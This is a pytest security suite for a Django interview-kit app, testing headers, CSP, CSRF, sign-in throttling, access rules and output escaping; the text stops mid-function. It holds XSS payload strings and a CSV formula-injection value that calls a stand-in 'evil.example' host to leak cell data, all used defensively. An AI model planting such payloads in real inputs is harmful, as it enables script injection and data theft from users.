"""Security: headers and CSP, HTTPS, sign-in throttling, CSRF, escaping, and who sees what.

The page lists below are the extension points. A new page, export or API endpoint is
covered by adding a line:
- `PAGES`: every HTML page, checked for security headers, for no inline script, style or
  event handler, and (with the `hostile` bank) that stored and reflected markup is escaped;
- `ACCESS`: which of the people in `people` may open each URL, and what the rest get;
- `CSRF_POSTS`: state-changing forms and endpoints that must refuse a post without a token.
`{placeholders}` in the URLs are filled from the `targets` fixture; add to it for new objects
(a kit's code, say). Kit pages are opened as the kit's owner: a `PAGES` entry may be a
`(path, who)` pair naming the person who opens it.
"""

import csv
import io
import json
import re
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
from axes.models import AccessAttempt
from django.conf import settings
from django.contrib.auth import password_validation
from django.core.exceptions import ValidationError
from django.test import Client
from django.utils import timezone
from markdown_it import MarkdownIt
from pypdf import PdfReader

from questions.kits import item_rules, rules
from questions.models import Competency, Kit, KitItem, Level, Question, QuestionType, Role
from tests.helpers import PASSWORD

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent

# Every HTML page, as the signed-in `editor` (staff, Question editor group) sees it.
PAGES = [
    "/",
    "/competencies/{competency}/",
    "/competencies/{competency}/?level=senior",
    "/questions/{question}/",
    "/roles/{role}/",
    "/search/",
    "/search/?q={probe}",
    "/search/?q={probe}&competency={competency}",
    "/accounts/login/",
    "/admin/",
    "/admin/questions/question/",
    "/admin/questions/question/?q={probe}",
    "/admin/questions/question/add/",
    "/admin/questions/question/{question_id}/change/",
    "/admin/questions/competency/",
    "/admin/questions/competency/{competency_id}/change/",
    "/admin/questions/role/",
    "/admin/questions/role/{role_id}/change/",
    # Kit pages, as the kit's owner sees them; staff read any kit; the shared link signed out.
    ("/kits/", "owner"),
    ("/kits/?archived=1", "owner"),
    ("/kits/new/", "owner"),
    ("/kits/{kit}/", "owner"),
    ("/kits/{kit}/?q={probe}", "owner"),
    ("/kits/{kit}/edit/", "owner"),
    ("/kits/{kit}/balance/", "owner"),
    ("/kits/{kit}/balance/?target_minutes=60&competencies={competency}", "owner"),
    ("/kits/{kit}/delete/", "owner"),
    ("/kits/{kit}/items/{item}/edit/", "owner"),
    ("/kits/{kit}/view/", "owner"),
    ("/kits/{kit}/view/", "editor"),
    ("/kits/{kit}/print/", "owner"),
    ("/kits/shared/{share}/", "anonymous"),
]


def page(entry: str | tuple[str, str]) -> tuple[str, str]:
    """A `PAGES` entry as (path, who opens it): a bare path is the editor's."""
    return (entry, "editor") if isinstance(entry, str) else entry


def page_id(entry: str | tuple[str, str]) -> str:
    path, who = page(entry)
    return path if who == "editor" else f"{path} as {who}"


# Stored in every text field of a competency, a role and a question, and sent in the query
# string: a script, an image with a handler, and an attempt to break out of an attribute.
PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><b onmouseover=alert(3)>"


class MarkupAudit(HTMLParser):
    """Collects what a strict CSP would block, or what only injected markup would add."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self._in_inline_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        for name, _ in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> event handler")
        if "style" in names:
            self.problems.append(f"<{tag} style=…> inline style")
        if tag == "style":
            self.problems.append("<style> element")
        # Data blocks (json_script) are never executed; any other script without src would be.
        data_block = names.get("type") in {"application/json", "application/ld+json"}
        if tag == "script" and "src" not in names and not data_block:
            self.problems.append("inline <script>")
        if tag == "img" and names.get("src") == "x":
            self.problems.append("injected <img>")


def audit(html: str) -> list[str]:
    parser = MarkupAudit()
    parser.feed(html)
    return parser.problems


def kit_targets(kit: Kit, spare: Question) -> dict:
    """Placeholders for a kit's URLs. The kit is shared; `revoked` is a link turned off;
    `undo` puts back the spare question, added and removed."""
    revoked = rules.kit_share(kit=kit).share_token
    rules.kit_revoke_share(kit=kit)
    undo = item_rules.removal_token(
        item_rules.kit_remove_item(item=item_rules.kit_add_question(kit=kit, question=spare))
    )
    items = list(kit.items.order_by("position"))
    return {
        "kit": kit.code,
        "item": items[0].pk,
        "item2": items[-1].pk,
        "spare": spare.slug,
        "share": rules.kit_share(kit=kit).share_token,
        "revoked": revoked,
        "undo": undo,
    }


@pytest.fixture
def targets(strategy, ops_manager, pricing_question, kit) -> dict:
    """Values for the {placeholders} in the page lists: the conftest bank and the owner's kit."""
    spare = Question.objects.create(
        text="Which market would you enter next, and why?",
        guidance="Sizes the market and names the risks.",
        competency=strategy,
    )
    # The spare question tests what the kit's first one does: it can be swapped in.
    pricing_question.alternates.add(spare)
    return {
        "competency": strategy.slug,
        "competency_id": strategy.id,
        "role": ops_manager.slug,
        "role_id": ops_manager.id,
        "question": pricing_question.slug,
        "question_id": pricing_question.id,
        "probe": "pricing",
        **kit_targets(kit, spare),
    }


@pytest.fixture
def hostile(owner) -> dict:
    """A competency, role, questions and a kit whose every text field holds the payload."""
    competency = Competency.objects.create(
        slug="hostile", name=PAYLOAD, description=PAYLOAD, display_order=9
    )
    role = Role.objects.create(slug="hostile-role", title=PAYLOAD, summary=PAYLOAD)
    question = Question.objects.create(
        text=PAYLOAD,
        guidance=PAYLOAD,
        competency=competency,
        question_type=QuestionType.SITUATIONAL,
        level=Level.SENIOR,
    )
    question.roles.add(role)
    kit = rules.kit_create(
        owner=owner, title=PAYLOAD, role=role, notes=PAYLOAD, competencies=[competency]
    )
    item = item_rules.kit_add_question(kit=kit, question=question)
    item_rules.kit_update_item(item=item, note=PAYLOAD)
    # Rewritten in the bank after it was pinned: the builder shows both wordings side by side.
    Question.objects.filter(pk=question.pk).update(
        text=f"{PAYLOAD} Rewritten {PAYLOAD}", guidance=f"{PAYLOAD} Rewritten {PAYLOAD}"
    )
    spare = Question.objects.create(
        text=f"Spare {PAYLOAD}", guidance=PAYLOAD, competency=competency, minutes=4
    )
    return {
        "competency": competency.slug,
        "competency_id": competency.id,
        "role": role.slug,
        "role_id": role.id,
        "question": question.slug,
        "question_id": question.id,
        "probe": PAYLOAD,
        **kit_targets(kit, spare),
    }


def fill(path: str, values: dict) -> str:
    from urllib.parse import quote

    return path.format(**{k: quote(str(v), safe="") for k, v in values.items()})


def fill_data(data: dict, values: dict) -> dict:
    """Form data with its {placeholders} filled in (lists stay lists)."""
    return {
        key: [item.format(**values) for item in value]
        if isinstance(value, list)
        else value.format(**values)
        for key, value in data.items()
    }


@pytest.fixture
def visitor(request):
    """A client signed in as the named person (or anonymous)."""

    def client_for(who: str) -> Client:
        client = Client()
        if who != "anonymous":
            client.force_login(request.getfixturevalue(who))
        return client

    return client_for


def kit_state() -> list:
    """Every kit and kit item, every column: what a refused request must leave as it was."""
    return [
        list(Kit.objects.order_by("pk").values()),
        list(KitItem.objects.order_by("pk").values()),
    ]


class TestHeaders:
    @pytest.mark.parametrize("entry", PAGES, ids=page_id)
    def test_every_page_sends_the_security_headers(self, visitor, targets, entry):
        path, who = page(entry)
        response = visitor(who).get(fill(path, targets))
        assert response.status_code == 200
        assert response["X-Content-Type-Options"] == "nosniff"
        # A shared kit tells browsers to send no referrer at all, so its link never leaks.
        shared = path.startswith("/kits/shared/")
        assert response["Referrer-Policy"] == ("no-referrer" if shared else "same-origin")
        assert response["X-Frame-Options"] == "DENY"
        assert response["Cross-Origin-Opener-Policy"] == "same-origin"
        assert "camera=()" in response["Permissions-Policy"]
        policy = dict(
            part.split(" ", 1) for part in response["Content-Security-Policy"].split("; ")
        )
        assert policy["script-src"] == "'self'"
        assert policy["style-src"] == "'self'"
        assert policy["object-src"] == "'none'"
        assert policy["frame-ancestors"] == "'none'"
        assert "unsafe" not in response["Content-Security-Policy"]

    @pytest.mark.parametrize("entry", PAGES, ids=page_id)
    def test_no_page_has_inline_script_style_or_event_handlers(self, visitor, targets, entry):
        # The admin included: Django 5.2's admin runs under this CSP unchanged.
        path, who = page(entry)
        body = visitor(who).get(fill(path, targets)).content.decode()
        assert audit(body) == []

    def test_no_template_has_inline_script_style_or_event_handlers(self):
        pattern = re.compile(
            r"<script(?![^>]*\bsrc=)(?![^>]*application/json)|<style|\son[a-z]+\s*=|\sstyle\s*=",
            re.IGNORECASE,
        )
        found = []
        for template in sorted(ROOT.glob("**/templates/**/*.html")):
            if ".venv" in template.parts:
                continue
            for number, line in enumerate(template.read_text().splitlines(), 1):
                if pattern.search(line):
                    found.append(f"{template.relative_to(ROOT)}:{number}: {line.strip()}")
        assert found == []

    def test_htmx_is_told_not_to_inject_its_indicator_style(self, recruiter_client):
        body = recruiter_client.get("/").content.decode()
        match = re.search(r"<meta name=\"htmx-config\" content='([^']*)'>", body)
        assert match
        assert json.loads(match.group(1))["includeIndicatorStyles"] is False
        css = (ROOT / "questions/static/questions/site.css").read_text()
        assert ".htmx-request .htmx-indicator" in css

    def test_the_error_pages_send_the_headers_too(self, recruiter_client):
        response = recruiter_client.get("/questions/no-such-question/")
        assert response.status_code == 404
        assert "script-src 'self'" in response["Content-Security-Policy"]
        assert response["X-Frame-Options"] == "DENY"


class TestHttps:
    def test_plain_http_is_redirected_to_https(self, db, settings):
        settings.SECURE_SSL_REDIRECT = True
        response = Client().get("/competencies/strategy/")
        assert response.status_code == 301
        assert response["Location"] == "https://testserver/competencies/strategy/"

    def test_https_responses_carry_hsts(self, db, settings):
        settings.SECURE_HSTS_SECONDS = 31536000
        settings.SECURE_HSTS_INCLUDE_SUBDOMAINS = True
        settings.SECURE_HSTS_PRELOAD = True
        response = Client().get("/accounts/login/", secure=True)
        assert (
            response["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"
        )

    def test_behind_a_tls_proxy_its_header_marks_the_request_secure(self, db, settings):
        settings.SECURE_SSL_REDIRECT = True
        settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
        client = Client()
        assert client.get("/accounts/login/").status_code == 301
        assert client.get("/accounts/login/", HTTP_X_FORWARDED_PROTO="https").status_code == 200

    def test_session_and_csrf_cookies_are_secure_and_http_only(self, recruiter, settings):
        settings.SESSION_COOKIE_SECURE = True
        settings.CSRF_COOKIE_SECURE = True
        client = Client()
        page = client.get("/accounts/login/", secure=True)
        assert page.cookies["csrftoken"]["secure"] is True
        response = client.post(
            "/accounts/login/",
            {"username": "rita", "password": PASSWORD},
            secure=True,
        )
        assert response.status_code == 302
        assert response.cookies["sessionid"]["secure"] is True
        assert response.cookies["sessionid"]["httponly"] is True


def sign_in(client: Client, username: str, password: str, path: str = "/accounts/login/"):
    return client.post(path, {"username": username, "password": password})


class TestSignInThrottling:
    def test_a_wrong_password_is_an_ordinary_form_error(self, client, recruiter):
        response = sign_in(client, "rita", "wrong")
        assert response.status_code == 200
        assert "Please enter a correct username and password" in response.content.decode()

    def test_repeated_failures_lock_the_sign_in_with_a_clear_message(self, client, recruiter):
        limit = settings.AXES_FAILURE_LIMIT
        for _ in range(limit - 1):
            assert sign_in(client, "rita", "wrong").status_code == 200
        response = sign_in(client, "rita", "wrong")
        assert response.status_code == 429
        body = response.content.decode()
        assert "Too many failed sign-ins" in body
        assert "paused for 15 minutes" in body
        assert f"after {limit} wrong passwords" in body
        assert 'class="site-header"' in body  # the site's own page, not a bare message
        assert "axes/lockout.html" in [template.name for template in response.templates]

    def test_while_locked_even_the_right_password_is_refused(self, client, recruiter):
        for _ in range(settings.AXES_FAILURE_LIMIT):
            sign_in(client, "rita", "wrong")
        response = sign_in(client, "rita", PASSWORD)
        assert response.status_code == 429
        assert "_auth_user_id" not in client.session

    def test_the_admin_sign_in_is_throttled_too(self, client, editor):
        for _ in range(settings.AXES_FAILURE_LIMIT - 1):
            sign_in(client, "edith", "wrong", "/admin/login/")
        response = sign_in(client, "edith", "wrong", "/admin/login/")
        assert response.status_code == 429
        assert "Too many failed sign-ins" in response.content.decode()

    def test_one_persons_failures_do_not_lock_out_a_colleague(self, client, recruiter, owner):
        for _ in range(settings.AXES_FAILURE_LIMIT):
            sign_in(client, "rita", "wrong")
        response = sign_in(client, "olivia", PASSWORD)
        assert response.status_code == 302

    def test_the_lock_lifts_after_the_cool_off(self, client, recruiter):
        for _ in range(settings.AXES_FAILURE_LIMIT):
            sign_in(client, "rita", "wrong")
        AccessAttempt.objects.update(
            attempt_time=timezone.now() - settings.AXES_COOLOFF_TIME - timedelta(seconds=1)
        )
        assert sign_in(client, "rita", PASSWORD).status_code == 302

    def test_a_success_clears_earlier_failures(self, client, recruiter):
        for _ in range(settings.AXES_FAILURE_LIMIT - 1):
            sign_in(client, "rita", "wrong")
        assert sign_in(client, "rita", PASSWORD).status_code == 302
        client.post("/accounts/logout/")
        assert sign_in(client, "rita", "wrong").status_code == 200

    def test_sign_ins_from_server_code_without_a_request_still_work(self, client, recruiter):
        # The test client's login() passes no request; django-axes cannot throttle it.
        assert client.login(username="rita", password=PASSWORD)

    @pytest.mark.parametrize(
        "forwarded,proxies,expected",
        [
            ("", 0, "203.0.113.9"),
            ("198.51.100.7", 0, "203.0.113.9"),  # no trusted proxy: the header is ignored
            ("198.51.100.7", 1, "198.51.100.7"),
            ("6.6.6.6, 198.51.100.7", 1, "198.51.100.7"),  # a spoofed entry on the left
            ("6.6.6.6, 198.51.100.7, 10.0.0.2", 2, "198.51.100.7"),
            ("", 1, "203.0.113.9"),  # not through the proxy after all
        ],
    )
    def test_the_address_locked_out_is_the_one_trusted_proxies_saw(
        self, rf, settings, forwarded, proxies, expected
    ):
        from interviewbank.auth import client_ip

        settings.TRUSTED_PROXY_COUNT = proxies
        request = rf.get("/", REMOTE_ADDR="203.0.113.9", HTTP_X_FORWARDED_FOR=forwarded)
        assert client_ip(request) == expected

    @pytest.mark.parametrize("password", ["short1", "password123", "12345678901234", "qwertyuiop"])
    def test_weak_passwords_are_refused(self, recruiter, password):
        with pytest.raises(ValidationError):
            password_validation.validate_password(password, user=recruiter)

    def test_a_long_uncommon_password_is_accepted(self, recruiter):
        password_validation.validate_password("plum-harbour-tractor-91", user=recruiter)


# Every change to a kit, as (path, form data): only the kit's owner may make it.
KIT_CHANGES = [
    ("/kits/{kit}/edit/", {"title": "Taken over", "target_minutes": "10"}),
    ("/kits/{kit}/balance/", {"target_minutes": "10"}),
    ("/kits/{kit}/items/", {"question": "{spare}"}),
    ("/kits/{kit}/items/{item}/remove/", {}),
    ("/kits/{kit}/items/restore/", {"token": "{undo}"}),
    ("/kits/{kit}/items/{item}/move/", {"direction": "down"}),
    ("/kits/{kit}/items/{item}/swap/", {"question": "{spare}"}),
    ("/kits/{kit}/items/{item}/edit/", {"minutes": "3", "note": "Taken over"}),
    ("/kits/{kit}/items/{item}/wording/", {"choice": "accept"}),
    ("/kits/{kit}/items/{item}/wording/", {"choice": "keep"}),
    ("/kits/{kit}/order/", {"item": ["{item2}", "{item}"]}),
    ("/kits/{kit}/duplicate/", {}),
    ("/kits/{kit}/archive/", {}),
    ("/kits/{kit}/archive/", {"archived": "0"}),
    ("/kits/{kit}/delete/", {}),
    ("/kits/{kit}/share/", {"action": "on"}),
    ("/kits/{kit}/share/", {"action": "regenerate"}),
    ("/kits/{kit}/share/", {"action": "off"}),
]

# (path, who signs in first or None, form data): each must be refused without a CSRF token.
CSRF_POSTS = [
    ("/accounts/login/", None, {"username": "rita", "password": PASSWORD}),
    ("/accounts/logout/", "recruiter", {}),
    ("/admin/login/", None, {"username": "edith", "password": PASSWORD}),
    ("/admin/logout/", "editor", {}),
    ("/admin/questions/question/{question_id}/change/", "editor", {"text": "Changed?"}),
    ("/admin/questions/question/", "editor", {"action": "retire", "_selected_action": "1"}),
    ("/kits/new/", "owner", {"title": "Forged", "target_minutes": "30"}),
    ("/kits/add/{spare}/", "owner", {"kit": "{kit}"}),
    *[(path, "owner", data) for path, data in KIT_CHANGES],
]


def csrf_id(value) -> str:
    return json.dumps(value, sort_keys=True) if isinstance(value, dict) else str(value)


class TestCsrf:
    @pytest.mark.parametrize("htmx", [False, True], ids=["form", "htmx"])
    @pytest.mark.parametrize("path,who,data", CSRF_POSTS, ids=csrf_id)
    def test_a_post_without_a_token_is_refused(
        self, request, recruiter, editor, targets, path, who, data, htmx
    ):
        client = Client(enforce_csrf_checks=True)
        if who:
            client.force_login(request.getfixturevalue(who))
        before = kit_state()
        response = client.post(
            fill(path, targets),
            fill_data(data, targets),
            headers={"HX-Request": "true"} if htmx else {},
        )
        assert response.status_code == 403
        assert "This form has expired" in response.content.decode()
        if who:
            assert "_auth_user_id" in client.session  # still signed in: the post did nothing
        assert kit_state() == before

    def test_htmx_requests_carry_the_token_from_the_body(self, recruiter):
        client = Client(enforce_csrf_checks=True)
        client.force_login(recruiter)
        body = client.get("/").content.decode()
        headers = json.loads(re.search(r"<body hx-headers='([^']*)'", body).group(1))
        response = client.post("/accounts/logout/", headers={**headers, "HX-Request": "true"})
        assert response.status_code == 302
        assert "_auth_user_id" not in client.session

    def test_the_builder_sends_the_token_with_its_htmx_changes(self, owner, targets):
        client = Client(enforce_csrf_checks=True)
        client.force_login(owner)
        body = client.get(fill("/kits/{kit}/", targets)).content.decode()
        headers = json.loads(re.search(r"<body hx-headers='([^']*)'", body).group(1))
        response = client.post(
            fill("/kits/{kit}/items/{item}/move/", targets),
            {"direction": "down"},
            headers={**headers, "HX-Request": "true"},
        )
        assert response.status_code == 200
        assert Kit.objects.get().items.get(pk=targets["item"]).position == 2


class TestEscaping:
    @pytest.mark.parametrize("entry", PAGES, ids=page_id)
    def test_stored_and_reflected_markup_is_shown_as_text(self, visitor, hostile, entry):
        path, who = page(entry)
        response = visitor(who).get(fill(path, hostile))
        assert response.status_code == 200
        body = response.content.decode()
        assert audit(body) == []
        assert PAYLOAD not in body

    @pytest.mark.parametrize(
        "entry",
        [
            "/",
            "/competencies/{competency}/",
            "/questions/{question}/",
            "/roles/{role}/",
            "/search/?q={probe}",
            "/admin/questions/question/",
            "/admin/questions/question/?q={probe}",
            ("/kits/", "owner"),
            ("/kits/{kit}/", "owner"),
            ("/kits/{kit}/?q={probe}", "owner"),
            ("/kits/{kit}/edit/", "owner"),
            ("/kits/{kit}/balance/?target_minutes=60&competencies={competency}", "owner"),
            ("/kits/{kit}/delete/", "owner"),
            ("/kits/{kit}/items/{item}/edit/", "owner"),
            ("/kits/{kit}/view/", "owner"),
            ("/kits/{kit}/print/", "owner"),
            ("/kits/shared/{share}/", "anonymous"),
        ],
        ids=page_id,
    )
    def test_the_payload_is_really_on_the_page_escaped(self, visitor, hostile, entry):
        # Guards the test above against passing because nothing was shown at all.
        path, who = page(entry)
        body = visitor(who).get(fill(path, hostile)).content.decode()
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body

    def test_the_builder_shows_a_rewritten_question_side_by_side_escaped(self, visitor, hostile):
        body = visitor("owner").get(fill("/kits/{kit}/", hostile)).content.decode()
        assert "An editor has changed this question" in body
        # Only the diff's own <ins> is markup; the rewritten words inside it are escaped.
        assert "<ins> Rewritten &lt;script&gt;alert(1)&lt;/script&gt;" in body
        assert audit(body) == []

    @pytest.mark.parametrize(
        "path,data",
        [
            ("/kits/{kit}/items/", {"question": "{spare}"}),
            ("/kits/{kit}/items/{item}/edit/", {"minutes": "x", "note": PAYLOAD}),
            ("/kits/{kit}/items/{item}/edit/", {"minutes": "4", "note": PAYLOAD}),
            ("/kits/{kit}/items/{item}/move/", {"direction": PAYLOAD}),
            ("/kits/{kit}/order/", {"item": [PAYLOAD]}),
            ("/kits/{kit}/items/{item}/wording/", {"choice": "keep"}),
            ("/kits/{kit}/items/{item}/remove/", {}),
            ("/kits/{kit}/items/restore/", {"token": "{undo}"}),
        ],
    )
    def test_builder_updates_sent_to_htmx_are_escaped(self, visitor, hostile, path, data):
        client = visitor("owner")
        response = client.post(
            fill(path, hostile), fill_data(data, hostile), headers={"HX-Request": "true"}
        )
        assert response.status_code in {200, 400}
        body = response.content.decode()
        assert audit(body) == []
        assert PAYLOAD not in body

    def test_the_bank_panel_sent_to_htmx_is_escaped(self, visitor, hostile):
        response = visitor("owner").get(
            fill("/kits/{kit}/?q={probe}", hostile),
            headers={"HX-Request": "true", "HX-Target": "bank-results"},
        )
        body = response.content.decode()
        assert "<html" not in body
        assert audit(body) == [] and PAYLOAD not in body
        assert "Spare &lt;script&gt;" in body

    @pytest.mark.parametrize(
        "path,data",
        [
            ("/kits/{kit}/items/", {"question": "{spare}"}),
            ("/kits/{kit}/edit/", {"title": PAYLOAD, "target_minutes": "2", "notes": PAYLOAD}),
            ("/kits/new/", {"title": PAYLOAD, "target_minutes": "0", "notes": PAYLOAD}),
            ("/kits/{kit}/duplicate/", {}),
        ],
    )
    def test_messages_and_form_errors_after_a_post_are_escaped(self, visitor, hostile, path, data):
        client = visitor("owner")
        response = client.post(fill(path, hostile), fill_data(data, hostile), follow=True)
        assert response.status_code in {200, 400}
        body = response.content.decode()
        assert audit(body) == [] and PAYLOAD not in body
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body


def flat(text: str) -> str:
    """Text without whitespace: PDF text extraction breaks lines where the layout did."""
    return re.sub(r"\s+", "", text)


class TestKitExportsEscaping:
    """The payload in every kit field comes out of each download as inert text."""

    def test_the_pdf_shows_markup_as_text_and_runs_nothing(self, visitor, hostile):
        response = visitor("owner").get(fill("/kits/{kit}/kit.pdf", hostile))
        assert response.status_code == 200
        pdf = PdfReader(io.BytesIO(response.content))
        text = flat("".join(page.extract_text() for page in pdf.pages))
        # Title, role, prep notes, competency heading, question, guidance and the item note:
        # had WeasyPrint read any of them as markup, its text would be missing here.
        assert text.count(flat(PAYLOAD)) == 7
        catalog = pdf.trailer["/Root"]
        assert "/OpenAction" not in catalog and "/AA" not in catalog
        assert "/JavaScript" not in catalog.get("/Names", {})  # only the sheet's anchors
        for sheet in pdf.pages:
            assert "/Annots" not in sheet  # no links or actions
            assert not sheet.images  # the <img> stayed text; nothing was fetched

    def test_the_shared_pdf_too(self, visitor, hostile):
        response = visitor("anonymous").get(fill("/kits/shared/{share}/kit.pdf", hostile))
        pdf = PdfReader(io.BytesIO(response.content))
        assert flat("".join(page.extract_text() for page in pdf.pages)).count(flat(PAYLOAD)) == 7

    @pytest.mark.parametrize(
        "render",
        [
            pytest.param(lambda text: MarkdownIt("commonmark").render(text), id="CommonMark"),
            pytest.param(markdown.markdown, id="Python-Markdown"),
        ],
    )
    def test_the_markdown_renders_markup_as_text(self, visitor, hostile, render):
        # Both renderers pass raw HTML through, as most Markdown viewers do.
        response = visitor("owner").get(fill("/kits/{kit}/kit.md", hostile))
        html = render(response.content.decode())
        assert audit(html) == []
        assert "<script" not in html and "<img" not in html and "<b " not in html
        # Title, role, prep notes, competency heading, question, guidance and the item note,
        # each there as text.
        assert html.count("&lt;script&gt;alert(1)") == 7
        assert html.count("onerror=alert(2)&gt;") == 7

    def test_the_markdown_reads_as_the_kit(self, visitor, hostile):
        text = visitor("owner").get(fill("/kits/{kit}/kit.md", hostile)).content.decode()
        html = MarkdownIt("commonmark").render(text)
        assert html.startswith("<h1>&lt;script&gt;alert(1)&lt;/script&gt;")
        assert "<h3>1. &lt;script&gt;" in html

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
        self, visitor, owner, strategy, start
    ):
        formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
        competency = Competency.objects.create(
            slug="formulae", name=formula, description="D.", display_order=7
        )
        question = Question.objects.create(text=formula, guidance=formula, competency=competency)
        kit = rules.kit_create(owner=owner, title=formula)
        item_rules.kit_add_question(kit=kit, question=question)
        # Stored as is: the kit pages strip a note's surrounding whitespace, other writers may not.
        KitItem.objects.filter(kit=kit).update(note=formula)
        response = visitor("owner").get(f"/kits/{kit.code}/kit.csv")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        # competency, question, what to look for, interviewer note
        cells = [rows[1][1], rows[1][2], rows[1][3], rows[1][5]]
        assert cells == ["'" + formula] * 4

    def test_the_csv_keeps_markup_as_plain_text(self, visitor, hostile):
        response = visitor("owner").get(fill("/kits/{kit}/kit.csv", hostile))
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[1][1:4] == [PAYLOAD, PAYLOAD, PAYLOAD]
        assert rows[1][5] == PAYLOAD


@pytest.fixture
def people(request) -> dict[str, Client]:
    """A signed-in client for each person every access test needs, and an anonymous one."""
    clients = {"anonymous": Client()}
    for name in ["outsider", "recruiter", "owner", "colleague", "editor"]:
        client = Client()
        client.force_login(request.getfixturevalue(name))
        clients[name] = client
    return clients


SIGN_IN = "sign-in"  # a redirect to /accounts/login/?next=<the page>

# Who may open each URL, and what everyone else gets.
EVERYONE_WITH_A_GROUP = {
    "anonymous": SIGN_IN,
    "outsider": 403,
    "recruiter": 200,
    "owner": 200,
    "colleague": 200,
    "editor": 200,
}
# Hiring managers build their own kits; other accounts are told why they cannot.
KIT_BUILDERS = {
    "anonymous": SIGN_IN,
    "outsider": 403,
    "recruiter": 403,
    "owner": 200,
    "colleague": 200,
    "editor": 403,
}
# A kit's pages are its owner's; to anyone else its address is a 404, so it reveals nothing.
KIT_OWNER = {
    "anonymous": SIGN_IN,
    "outsider": 404,
    "recruiter": 404,
    "owner": 200,
    "colleague": 404,
    "editor": 404,
}
# Staff read any kit (and never change it).
KIT_READERS = {**KIT_OWNER, "editor": 200}
SHARED_LINK = dict.fromkeys(EVERYONE_WITH_A_GROUP, 200)
NOBODY = dict.fromkeys(EVERYONE_WITH_A_GROUP, 404)
ACCESS = [
    ("/", EVERYONE_WITH_A_GROUP),
    ("/competencies/{competency}/", EVERYONE_WITH_A_GROUP),
    ("/questions/{question}/", EVERYONE_WITH_A_GROUP),
    ("/roles/{role}/", EVERYONE_WITH_A_GROUP),
    ("/search/?q={probe}", EVERYONE_WITH_A_GROUP),
    ("/kits/", KIT_BUILDERS),
    ("/kits/?archived=1", KIT_BUILDERS),
    ("/kits/new/", KIT_BUILDERS),
    # Adding a question offers a builder's own kits only (tests/kits/test_add_to_kit.py).
    ("/kits/add/{spare}/", KIT_BUILDERS),
    # Staff opening the builder are sent to the read-only interviewer view.
    ("/kits/{kit}/", {**KIT_OWNER, "editor": 302}),
    ("/kits/{kit}/edit/", KIT_OWNER),
    ("/kits/{kit}/balance/", KIT_OWNER),
    ("/kits/{kit}/balance/?target_minutes=30", KIT_OWNER),
    ("/kits/{kit}/delete/", KIT_OWNER),
    ("/kits/{kit}/items/{item}/edit/", KIT_OWNER),
    ("/kits/{kit}/view/", KIT_READERS),
    ("/kits/{kit}/print/", KIT_READERS),
    ("/kits/{kit}/kit.pdf", KIT_READERS),
    ("/kits/{kit}/kit.md", KIT_READERS),
    ("/kits/{kit}/kit.csv", KIT_READERS),
    ("/kits/shared/{share}/", SHARED_LINK),
    ("/kits/shared/{share}/kit.pdf", SHARED_LINK),
    ("/kits/shared/{revoked}/", NOBODY),
    ("/kits/shared/{revoked}/kit.pdf", NOBODY),
    ("/kits/shared/guessed-token/", NOBODY),
]


class TestAccess:
    @pytest.mark.parametrize("path,expected", ACCESS)
    def test_each_person_gets_what_they_may_see_and_nothing_else(
        self, people, targets, path, expected
    ):
        url = fill(path, targets)
        for who, client in people.items():
            response = client.get(url)
            if expected[who] == SIGN_IN:
                assert response.status_code == 302, who
                assert response["Location"].startswith("/accounts/login/?next="), who
            else:
                assert response.status_code == expected[who], who

    @pytest.mark.parametrize("htmx", [False, True], ids=["form", "htmx"])
    @pytest.mark.parametrize("path,data", KIT_CHANGES, ids=csrf_id)
    def test_only_the_owner_changes_a_kit(self, people, targets, path, data, htmx):
        url, data = fill(path, targets), fill_data(data, targets)
        headers = {"HX-Request": "true"} if htmx else {}
        if data.get("archived") == "0":
            rules.kit_archive(kit=Kit.objects.get())
        before = kit_state()
        for who in ["anonymous", "outsider", "recruiter", "colleague", "editor"]:
            response = people[who].post(url, data, headers=headers)
            if who == "anonymous":
                assert response.status_code == 302, who
                assert response["Location"].startswith("/accounts/login/?next="), who
            else:
                assert response.status_code == 404, who
            assert kit_state() == before, who
        # Guards the refusals above: the same request from the owner goes through.
        response = people["owner"].post(url, data, headers=headers)
        assert response.status_code in {200, 302}
        assert kit_state() != before or data in ({"choice": "accept"}, {"action": "on"})

    def test_add_to_kit_reaches_only_the_persons_own_kits(self, people, targets):
        url = fill("/kits/add/{spare}/", targets)
        before = kit_state()
        expected = {"anonymous": 302, "outsider": 403, "recruiter": 403, "editor": 403}
        for who, status in {**expected, "colleague": 400}.items():
            assert people[who].post(url, {"kit": targets["kit"]}).status_code == status, who
            assert kit_state() == before, who
        assert people["owner"].post(url, {"kit": targets["kit"]}).status_code == 302
        assert kit_state() != before

    def test_a_colleague_sees_only_their_own_kits_in_the_list(self, people, targets):
        rules.kit_create(owner=Kit.objects.get().owner, title="Olivia's second kit")
        page = people["colleague"].get("/kits/").content.decode()
        assert "Ops manager first interview" not in page
        assert "Olivia's second kit" not in page
        assert "Ops manager first interview" in people["owner"].get("/kits/").content.decode()

    def test_a_shared_link_stops_working_for_everyone_once_turned_off(self, people, targets):
        url = fill("/kits/shared/{share}/", targets)
        people["owner"].post(fill("/kits/{kit}/share/", targets), {"action": "off"})
        for who, client in people.items():
            assert client.get(url).status_code == 404, who

    def test_a_refusal_is_the_site_403_page(self, people, targets):
        response = people["outsider"].get("/")
        assert response.status_code == 403
        assert "You cannot open this page" in response.content.decode()

    def test_every_person_is_in_the_access_table(self):
        for _, expected in ACCESS:
            assert set(expected) == {
                "anonymous",
                "outsider",
                "recruiter",
                "owner",
                "colleague",
                "editor",
            }

    def test_every_kit_address_is_in_the_access_tables(self):
        from django.urls import get_resolver

